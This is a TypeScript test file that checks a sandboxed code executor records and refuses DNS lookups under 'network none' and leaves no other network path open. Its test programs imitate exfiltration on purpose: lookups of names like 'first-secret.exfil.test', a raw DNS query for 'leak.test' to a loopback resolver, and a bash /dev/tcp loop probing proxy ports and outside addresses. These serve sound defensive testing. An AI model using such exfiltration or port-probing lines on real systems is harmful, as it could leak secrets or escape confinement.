import { createSocket } from 'node:dgram';
import type { EgressRecord } from '@cordon/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SpawnExecutor } from '../src/index.js';
import { leftoversOf } from './helpers.js';

// Under network none the names code tries to resolve are recorded, and nothing else
// changes: every query is refused (NXDOMAIN), none reaches any resolver, and no other
// path opens. A resolver on the host's loopback stands in for "any resolver": it must
// receive nothing.
let resolver: ReturnType<typeof createSocket>;
let resolverPort = 0;
let queriesSeen = 0;

beforeAll(async () => {
  resolver = createSocket('udp4');
  resolver.on('message', () => queriesSeen++);
  await new Promise<void>((resolve) => resolver.bind(0, '127.0.0.1', resolve));
  resolverPort = resolver.address().port;
});
afterAll(() => resolver?.close());

const dns = (records: readonly EgressRecord[] | undefined) =>
  (records ?? []).map((record) => [record.path, record.kind, record.host, record.verdict, record.reason]);

describe.runIf(process.getuid?.() === 0)('spawn backend, DNS under network none', () => {
  it('records every name resolved (pooled and cold), each execution only its own, refused at once', async () => {
    const executor = await SpawnExecutor.create({ isolation: 'kernel', poolSize: 1 });
    const events: EgressRecord[] = [];
    executor.events.on('egress', (event: { record: EgressRecord }) => events.push(event.record));
    try {
      expect(executor.capabilities().egress?.dnsUnderNone).toBe(true);
      await executor.settled();
      const pooled = await executor.execute({
        language: 'python',
        code: [
          'import socket',
          'for name in ("first-secret.exfil.test", "second.exfil.test"):',
          '    try: socket.getaddrinfo(name, 443, socket.AF_INET)',
          '    except socket.gaierror as e: print(name, e.errno)',
          // Straight to a resolver on the host's loopback: in the sandbox's own namespace, nobody.
          'q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
          `q.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x04test\\x00\\x00\\x01\\x00\\x01", ("127.0.0.1", ${resolverPort}))`,
        ].join('\n'),
      });
      expect(pooled.status).toBe('ok');
      expect(pooled.stdout).toBe(`first-secret.exfil.test ${-2}\nsecond.exfil.test ${-2}\n`);
      expect(dns(pooled.egress?.records)).toEqual([
        ['dns', 'A', 'first-secret.exfil.test', 'denied', 'network mode is none'],
        ['dns', 'A', 'second.exfil.test', 'denied', 'network mode is none'],
      ]);
      expect(events).toEqual(pooled.egress?.records);

      // Not the pool's shape: cold, recorded the same way; nothing of the first execution.
      const cold = await executor.execute({
        language: 'bash',
        // getent hosts, not ahostsv4: that one asks with AI_ADDRCONFIG, which glibc answers itself in a namespace with only lo.
        code: 'getent hosts cold.exfil.test; echo "rc=$?"',
        limits: { memoryBytes: 128 * 1024 * 1024 },
      });
      expect(cold.stdout).toBe('rc=2\n');
      expect(new Set(dns(cold.egress?.records).map((record) => record.join(' ')))).toEqual(
        new Set(['A', 'AAAA'].map((kind) => `dns ${kind} cold.exfil.test denied network mode is none`)),
      );

      // A program that resolves nothing gets an empty audit, not an absent one.
      const quiet = await executor.execute({ language: 'bash', code: 'true' });
      expect(quiet.egress).toEqual({ records: [], dropped: 0 });
      expect(queriesSeen).toBe(0);
    } finally {
      await executor.close();
    }
    expect(await leftoversOf(executor)).toEqual([]);
  }, 60_000);

  it('keeps network none closed: the DNS forwarder serves nothing but DNS', async () => {
    const executor = await SpawnExecutor.create({ isolation: 'kernel', poolSize: 0 });
    try {
      const result = await executor.execute({
        language: 'bash',
        // The allow-list forwarder's other listeners (capture, HTTP proxy, SOCKS) and any routed address.
        code: [
          'for target in 127.0.0.1/15001 127.0.0.1/3128 127.0.0.1/1080 192.0.2.1/80 198.18.0.1/443; do',
          '  if (exec 3<>/dev/tcp/${target%/*}/${target#*/}) 2>/dev/null; then echo "open $target"; else echo "closed $target"; fi',
          'done',
        ].join('\n'),
      });
      expect(result.stdout.split('\n').filter(Boolean)).toEqual([
        'closed 127.0.0.1/15001',
        'closed 127.0.0.1/3128',
        'closed 127.0.0.1/1080',
        'closed 192.0.2.1/80',
        'closed 198.18.0.1/443',
      ]);
      expect(result.egress?.records).toEqual([]);
    } finally {
      await executor.close();
    }
    expect(await leftoversOf(executor)).toEqual([]);
  }, 60_000);
});
